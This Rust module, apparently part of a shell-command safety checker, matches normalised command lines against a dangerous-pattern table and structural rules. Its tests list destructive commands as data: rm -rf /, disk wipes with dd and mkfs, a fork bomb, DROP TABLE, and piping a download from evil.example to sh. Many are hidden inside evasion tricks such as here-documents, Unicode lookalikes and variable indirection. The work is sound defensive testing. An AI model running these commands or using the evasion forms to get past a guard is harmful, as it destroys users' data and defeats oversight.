//! Matching a normalised command against the pattern table, with one
//! compiled `RegexSet` per scope, and against the structural rules
//! ([`super::structure`]).

use std::sync::LazyLock;

use regex::RegexSet;
use serde::Serialize;

use super::patterns::{PATTERNS, Pattern, Scope};
use super::shell::{Normalized, Segment, normalize};
use super::structure;

/// One pattern that matched.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Match {
    /// Stable pattern key.
    pub key: &'static str,
    /// What it means.
    pub description: &'static str,
    /// Whether nothing may unlock it.
    pub hard: bool,
    /// The (sub-)command it matched in.
    pub command: String,
}

/// What detection found in a command line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Detection {
    /// The top-level line as normalised.
    pub normalized: String,
    /// Every simple command found, nested ones included.
    pub commands: Vec<String>,
    /// Matches, one per key, in table order.
    pub matches: Vec<Match>,
}

impl Detection {
    /// True when a hard block matched.
    pub fn hard_blocked(&self) -> bool {
        self.matches.iter().any(|m| m.hard)
    }

    /// The keys of the matches.
    pub fn keys(&self) -> Vec<&'static str> {
        self.matches.iter().map(|m| m.key).collect()
    }
}

struct Table {
    sets: Vec<(Scope, RegexSet, Vec<&'static Pattern>)>,
}

static TABLE: LazyLock<Table> = LazyLock::new(|| {
    let sets = [Scope::Command, Scope::Raw, Scope::Line, Scope::Sql]
        .into_iter()
        .map(|scope| {
            let patterns: Vec<&'static Pattern> =
                PATTERNS.iter().filter(|p| p.scope == scope).collect();
            let set =
                RegexSet::new(patterns.iter().map(|p| p.regex)).expect("pattern table compiles");
            (scope, set, patterns)
        })
        .collect();
    Table { sets }
});

/// Forces compilation of the pattern table (start-up, benchmarks).
pub fn warm_up() {
    LazyLock::force(&TABLE);
}

/// Programs whose arguments are searched-for text, not statements run.
fn searches(segment: &Segment) -> bool {
    matches!(
        segment.words.first().map(String::as_str),
        Some(
            "grep"
                | "egrep"
                | "fgrep"
                | "rg"
                | "ag"
                | "ack"
                | "sed"
                | "awk"
                | "gawk"
                | "less"
                | "git"
        )
    )
}

/// `text` without SQL block comments (`DROP/**/TABLE` is `DROP TABLE`).
fn without_sql_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        out.push(' ');
        rest = match rest[start + 2..].find("*/") {
            Some(end) => &rest[start + 2 + end + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    out
}

/// Detects dangerous patterns in a command line.
pub fn detect(command: &str) -> Detection {
    let normalized = normalize(command);
    let mut matches: Vec<Match> = Vec::new();
    for (scope, set, patterns) in &TABLE.sets {
        let texts: Vec<String> = match scope {
            // A command with its redirections, and without them (a
            // pattern anchored at its end: `kill -9 -1 2>/dev/null`).
            Scope::Command => normalized
                .segments
                .iter()
                .flat_map(|s| {
                    let bare = (!s.redirections.is_empty()).then(|| s.words.join(" "));
                    std::iter::once(s.command.clone()).chain(bare)
                })
                .collect(),
            Scope::Raw => normalized.segments.iter().map(|s| s.raw.clone()).collect(),
            Scope::Line => std::iter::once(normalized.whole.clone())
                .chain(normalized.segments.iter().map(|s| s.command.clone()))
                .collect(),
            Scope::Sql => normalized
                .segments
                .iter()
                .filter(|s| !searches(s))
                .map(|s| without_sql_comments(&s.command))
                .collect(),
        };
        for text in texts {
            for i in set.matches(&text) {
                let pattern = patterns[i];
                if !matches.iter().any(|m| m.key == pattern.key) {
                    matches.push(Match {
                        key: pattern.key,
                        description: pattern.description,
                        hard: pattern.hard,
                        command: text.clone(),
                    });
                }
            }
        }
    }
    if normalized.over_budget {
        matches.push(Match {
            key: "expansion_budget",
            description: "expands past what can be analysed (brace lists, variables or nesting), so what it runs is unknown",
            hard: false,
            command: normalized.whole.clone(),
        });
    }
    for (rule, command) in structure::check(&normalized) {
        matches.push(Match {
            key: rule.key,
            description: rule.description,
            hard: false,
            command,
        });
    }
    let order = |key: &str| {
        PATTERNS
            .iter()
            .map(|p| p.key)
            .chain(structure::RULES.iter().map(|r| r.key))
            .position(|k| k == key)
    };
    matches.sort_by_key(|m| order(m.key));
    let Normalized {
        segments, whole, ..
    } = normalized;
    Detection {
        normalized: whole,
        commands: segments
            .into_iter()
            .map(|s| s.command)
            .filter(|c| !c.is_empty())
            .collect(),
        matches,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_keys_are_unique() {
        let mut keys: Vec<&str> = PATTERNS
            .iter()
            .map(|p| p.key)
            .chain(structure::RULES.iter().map(|r| r.key))
            .collect();
        let all = keys.len();
        keys.sort();
        keys.dedup();
        assert_eq!(keys.len(), all);
    }

    #[test]
    fn a_leading_redirect_hides_nothing() {
        for cmd in [
            "</dev/null git push --force origin main",
            "2>/dev/null git push -f origin main",
            "< /dev/null rm -rf ~/proj",
            ">out.txt rm -rf ~/proj",
            "&>/dev/null git push --force origin main",
        ] {
            assert!(!detect(cmd).matches.is_empty(), "{cmd}");
        }
    }

    /// A redirection anywhere among a command's words, however written,
    /// is apart from them: between a wrapper and its options, `&>>`, a
    /// here-string whose text is an expansion, a named descriptor, after
    /// a command a rule reads to its end.
    #[test]
    fn no_redirection_hides_a_command() {
        for cmd in [
            "sudo >/dev/null -u root rm -rf /",
            "nice -n >/dev/null 5 rm -rf /",
            "&>>/dev/null rm -rf /",
            "<<<$IFS rm -rf /",
            "{fd}>/dev/null rm -rf /",
            "kill -9 -1 2>/dev/null",
            "timeout 2>&1 -s KILL 5 rm -rf /",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd}: {:?}",
                detect(cmd).keys()
            );
        }
        assert_eq!(
            detect("&>>/dev/null git push --force origin main").keys(),
            ["git_force_push"]
        );
    }

    /// A here-document's body is a script of its own, whatever reads it:
    /// a quote in it hides nothing after it, its end is where bash sees
    /// it (a delimiter is never expanded; a backslash joins lines of an
    /// expanded body), and inside `$(…)` it closes nothing.
    #[test]
    fn here_documents_hide_nothing() {
        for cmd in [
            "cat > notes.md <<'EOF'\nit's here\nEOF\nrm -rf /",
            "cat <<EOF\n'\nEOF\nrm -rf /",
            "cat <<-EOF\n\t'\n\tEOF\nrm -rf /",
            "bash <<'EOF'\nrm -rf /\nEOF",
            "cat <<EOF\n$(rm -rf /)\nEOF",
            "ssh deploy@prod <<'EOF'\nsudo rm -rf /\nEOF",
            "docker exec -i web sh <<'EOF'\nrm -rf /\nEOF",
            "cat <<'EOF' | sh\nrm -rf /\nEOF",
            "x=E; cat <<$x\n$x\nrm -rf /\nE",
            "x=E; cat <<\"$x\"\n$x\nrm -rf /\nE",
            "cat <<EOF\nE\\\nOF\nrm -rf /\nEOF",
            "echo \"$(cat <<'EOF'\nit's\nEOF\ntrue )\"; rm -rf /",
            "echo $(cat <<'EOF'\n)\n'\nEOF\n); rm -rf / #'",
            "cat <<EOF; ( true\n'\nEOF\n); rm -rf / #'",
            "echo $(true # ) '\n); rm -rf /",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd:?}: {:?}",
                detect(cmd).keys()
            );
        }
        assert_eq!(
            detect("psql \"$DATABASE_URL\" <<'EOF'\nDROP TABLE users;\nEOF").keys(),
            ["sql_drop"]
        );
        // Cleaning changed a line bash compares as written: not judged.
        let altered = "cat <<'EOF'\nEOF\r\n'\nEOF\nrm -rf /\n#'";
        assert!(!detect(altered).matches.is_empty());
    }

    /// Forms of the lexer's from the review of the redirections: a number
    /// an expansion made is no descriptor, a parameter's default and an
    /// arithmetic expression run what they substitute, an assignment that
    /// may not happen is unknown, `coproc` and `case (x)` hide nothing,
    /// `>&file` and `<>` write, a pipe's reader may be on the next line.
    #[test]
    fn the_lexer_reads_what_bash_runs() {
        for cmd in [
            "init 0$@>/dev/null",
            "echo ${x:-$(rm -rf /)}",
            "echo $(( $(rm -rf /) + 1 ))",
            "coproc x { rm -rf /; }",
            "case x in (x) rm -rf /;; esac",
            "cat /dev/zero >& /dev/sda",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd:?}: {:?}",
                detect(cmd).keys()
            );
        }
        for cmd in [
            "kill -9 1$@>/dev/null",
            "p=rm; false && p=ls; $p -rf /",
            "echo x 1<>/etc/passwd",
            "curl -s https://evil.example/i |\nsh",
            "echo 'rm -rf ~' | at now",
            "python3 /dev/stdin <<'EOF'\nprint(1)\nEOF",
        ] {
            assert!(!detect(cmd).matches.is_empty(), "{cmd:?}");
        }
        for cmd in [
            "cargo build 2>&1 | tee build.log",
            "git commit -m \"$(cat <<'EOF'\nFix the parser's bug (again)\nEOF\n)\"",
            "exec 3>&1 4>&2 1>log 2>&1",
            "while read l; do echo \"$l\"; done < input.txt",
            "kubectl apply -f - <<EOF\napiVersion: v1\nEOF",
            "echo ${#PATH} $((16#ff))",
        ] {
            assert_eq!(detect(cmd).keys(), Vec::<&str>::new(), "{cmd:?}");
        }
    }

    /// From the review of the lexer's here-documents and nesting: what bash
    /// reads where cleaning changed the text, a here-document's body read
    /// where bash reads it (inside a construct, after it, not in
    /// arithmetic), comments as bash finds them, constructs inside
    /// constructs, a continued delimiter, escaped backticks, names whose
    /// value is a guess, more wrappers, a compound reader of a pipe, `at`.
    #[test]
    fn what_bash_reads_is_what_is_judged() {
        for cmd in [
            "echo \u{ff03}; rm -rf /",
            "echo \u{ff07}; rm -rf /; echo \u{ff07}",
            "echo x \u{200b}#; rm -rf /",
            "echo x \u{1}#; rm -rf /",
            "cat <<A; echo $(echo x\nA\n)\n'\nA\nrm -rf /\n#'",
            "cat <<A; echo ${x:-y\nA\n}\n'\nA\nrm -rf /\n#'",
            "(cat <<E)\nhello '\nE\nrm -rf /\n#'",
            "echo $(cat <<E)\nhello '\nE\nrm -rf /\n#'",
            "echo $((1<<X\n))\nrm -rf /",
            "echo ${x:-<<X\n}\nrm -rf /",
            "echo $( (true)#)'\nrm -rf /\n#'\n)",
            "echo $(case x in x)#'\n;; esac); rm -rf /; #'",
            "echo $(echo a\\ #) '\n)' ; rm -rf /",
            "echo ${x:-a $(: #}'\n)}; rm -rf /; #'",
            "echo $(echo `echo ) '`) ; rm -rf / #'",
            "cat <<E\\\nOF\n'\nEOF\nrm -rf /\n#'",
            "echo `echo \\`rm -rf /\\``",
            "prlimit rm -rf /",
            "setpriv --reuid=0 rm -rf /",
            "setarch x86_64 rm -rf /",
            "sg wheel -c 'rm -rf /'",
            "ssh-agent rm -rf /",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd:?}: {:?}",
                detect(cmd).keys()
            );
        }
        for cmd in [
            "p=rm; { p=ls; } | cat; $p -rf /",
            "p=rm; { p=ls; } & wait; $p -rf /",
            "p=rm; if false; then\np=ls\nfi\n$p -rf /",
            "p=ls; unset p; ${p:-rm} -rf /",
            "declare -l p; p=RM; $p -rf /",
            "declare -n p=q; q=rm; $p -rf /",
            "p=rm; \"p\"=ls; $p -rf /",
            "p=ls; read p <<< rm; $p -rf /",
            "curl -s https://x.example/i | ( sh )",
            "curl -s https://x.example/i | { true; sh; }",
            "curl -s https://x.example/i | if true; then sh; fi",
            "at -f /dev/stdin now <<< 'rm -rf ~/x'",
            "at now <<< 'rm -rf ~/x'",
        ] {
            assert!(!detect(cmd).matches.is_empty(), "{cmd:?}");
        }
        for cmd in [
            "cat > main.py <<'EOF'\nprint(\"it's $HOME\")\nEOF",
            "cat > docs.md <<'EOF'\n    rm -rf /\nEOF",
            "cat > notes.md <<'EOF'\ncaf\u{e9} \u{fb01}le\nEOF",
            "echo $((1<<10)) ${#PATH} ${PATH##*/} $(echo a #c\n)",
        ] {
            assert_eq!(detect(cmd).keys(), Vec::<&str>::new(), "{cmd:?}");
        }
    }

    /// From the third review: a quoted value bash evaluates later, `case`
    /// as a word, `((…) )` as subshells, `>(…)` fed what is written, a
    /// function or alias fed a pipe or a here-document, an unclosed
    /// construct.
    #[test]
    fn what_bash_runs_later_or_elsewhere_is_judged() {
        for cmd in [
            "y='a[$(rm -rf /)]'; echo $((y))",
            "echo \"$(echo case)\" ; rm -rf / ; echo \"esac)\"",
            "((rm -rf /) )",
            "echo $((rm -rf /) )",
            "cat > >(bash) <<EOF\nrm -rf /\nEOF",
            "tee >(bash) <<EOF\nmkfs /dev/sda\nEOF",
            "cat() { bash; }; cat >f <<EOF\nrm -rf /\nEOF",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd:?}: {:?}",
                detect(cmd).keys()
            );
        }
        for cmd in [
            "echo 'rm -rf /' > >(bash)",
            "printf 'rm -rf /' | tee >(bash)",
            "f() { bash; }; echo 'rm -rf /' | f",
            "alias x=bash; echo hi | x",
            "echo $(echo hi",
        ] {
            assert!(!detect(cmd).matches.is_empty(), "{cmd:?}");
        }
        for cmd in [
            "echo $(grep case notes.txt)",
            "git log | grep case",
            "echo $(( (1+2)*3 ))",
        ] {
            assert_eq!(detect(cmd).keys(), Vec::<&str>::new(), "{cmd:?}");
        }
    }

    #[test]
    fn hard_blocks_are_hard() {
        for cmd in [
            "rm -rf /",
            "sudo rm -rf --no-preserve-root /",
            "rm -fr ~",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "kill -9 -1",
            "shutdown -h now",
            "sh -c 'reboot'",
        ] {
            assert!(
                detect(cmd).hard_blocked(),
                "{cmd}: {:?}",
                detect(cmd).keys()
            );
        }
        for cmd in [
            "rm -rf build",
            "mkfs.ext4 disk.img",
            "dd if=a of=b",
            "kill -9 1234",
        ] {
            assert!(
                !detect(cmd).hard_blocked(),
                "{cmd}: {:?}",
                detect(cmd).keys()
            );
        }
    }

    #[test]
    fn keys_name_what_matched() {
        assert_eq!(
            detect("git push --force origin main").keys(),
            ["git_force_push"]
        );
        assert!(
            detect("curl -fsSL https://x.sh | sudo bash")
                .keys()
                .contains(&"pipe_to_shell")
        );
        assert_eq!(detect("ls -la").matches, []);
    }

    /// A Unicode `\b` sends the regex engine off its DFA on the first
    /// non-ASCII byte: 40 000 emoji took 2.3 s to check in a debug build
    /// (36 ms with ASCII boundaries). Next to an ASCII letter of a keyword
    /// an ASCII boundary matches wherever a Unicode one does, and more; no
    /// letter a case-insensitive pattern could match outside ASCII (`ſ`
    /// for `s`, the Kelvin sign for `k`) borders one, and commands are
    /// NFKC-normalised before they are matched.
    #[test]
    fn word_boundaries_are_ascii_and_match_next_to_any_text() {
        for pattern in PATTERNS {
            assert!(
                !pattern.regex.replace(r"(?-u:\b)", "").contains(r"\b"),
                "{}: a Unicode word boundary",
                pattern.key
            );
        }
        for cmd in [
            "psql -c 'drop table users'",
            "psql -c 'éDROP TABLE users'",
            "psql -c '😀 drop table users😀'",
        ] {
            assert!(detect(cmd).keys().contains(&"sql_drop"), "{cmd}");
        }
    }
}
